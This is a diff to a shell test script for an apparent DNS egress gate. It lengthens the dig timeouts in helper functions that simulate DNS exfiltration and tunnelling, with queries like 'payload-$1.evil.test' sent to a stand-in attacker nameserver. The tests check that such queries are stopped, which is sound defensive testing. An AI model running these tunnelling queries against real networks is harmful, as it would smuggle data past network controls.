@@ -144,10 +144,10 @@ private_says() {
     ask @198.18.2.53 private.test > /dev/null
     said "$from" private_address private.test
 }
-foreign() { client dig +tries=1 +timeout=2 @198.18.3.66 "$1.evil.test"; }
-foreign_6() { client dig +tries=1 +timeout=2 @2001:db8:3::66 "$1.evil.test"; }
-foreign_tcp() { client dig +tcp +tries=1 +timeout=2 @198.18.3.66 "$1.evil.test"; }
-tunnel() { client dig +tries=1 +timeout=2 "payload-$1.evil.test"; }
+foreign() { client dig +tries=1 +timeout=5 @198.18.3.66 "$1.evil.test"; }
+foreign_6() { client dig +tries=1 +timeout=5 @2001:db8:3::66 "$1.evil.test"; }
+foreign_tcp() { client dig +tcp +tries=1 +timeout=5 @198.18.3.66 "$1.evil.test"; }
+tunnel() { client dig +tries=1 +timeout=5 "payload-$1.evil.test"; }
 foreign_at_once() { quick 1000 foreign "x$(nonce)" || [ $? != 99 ]; }
 
 for attack in foreign foreign_6 foreign_tcp tunnel; do check "without the gate $attack reaches the attacker" attack_reaches $attack; done
@@ -256,7 +256,7 @@ stub() {
     fetch -4 https://allowed.test/hello | grep -q hello
     expect_not_at_resolver 'stubdenied'
 }
-stub_tunnel() { client dig +tries=1 +timeout=2 @127.0.0.53 "stub-$1.evil.test"; }
+stub_tunnel() { client dig +tries=1 +timeout=5 @127.0.0.53 "stub-$1.evil.test"; }
 if [ -n "$RESOLVED" ]; then
     if stub_up > "$T/stub.log" 2>&1; then
         resolver c 127.0.0.53
